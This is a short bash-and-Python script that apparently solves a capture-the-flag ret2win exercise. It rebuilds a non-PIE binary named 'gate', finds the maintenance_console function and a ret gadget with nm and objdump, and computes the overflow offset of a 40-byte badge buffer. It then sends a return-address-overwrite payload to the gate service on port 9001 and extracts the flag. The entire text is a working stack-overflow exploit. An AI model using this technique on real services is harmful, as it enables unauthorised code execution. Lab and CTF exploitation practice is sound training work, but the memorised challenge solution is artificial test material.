#!/bin/bash
# ret2win: rebuild the identical no-PIE binary, find maintenance_console and
# a lone `ret` (stack realignment), overflow badge[40] in check_badge.
set -e
cd "$HOME"
sh build.sh
python3 - <<'PY'
import re, socket, struct, subprocess
nm = subprocess.run(["nm", "gate"], capture_output=True, text=True).stdout
win = int(re.search(r"^([0-9a-f]+) T maintenance_console$", nm, re.M).group(1), 16)
dis = subprocess.run(["objdump", "-d", "--no-show-raw-insn", "gate"], capture_output=True, text=True).stdout
ret = int(re.search(r"^\s+([0-9a-f]+):\s+ret\s*$", dis, re.M).group(1), 16)
# offset: badge is at rbp-0x30 at -O0; read the frame layout to be sure
body = dis.split("<check_badge>:")[1].split("\n\n")[0]
off = int(re.search(r"lea\s+-0x([0-9a-f]+)\(%rbp\),%rax", body).group(1), 16) + 8
payload = b"A" * off + struct.pack("<QQ", ret, win)
s = socket.create_connection(("gate", 9001), timeout=10)
s.recv(4096)
s.sendall(payload)
out = b""
while True:
    d = s.recv(4096)
    if not d:
        break
    out += d
print(re.search(rb"flag\{[0-9a-f]+\}", out).group(0).decode())
PY
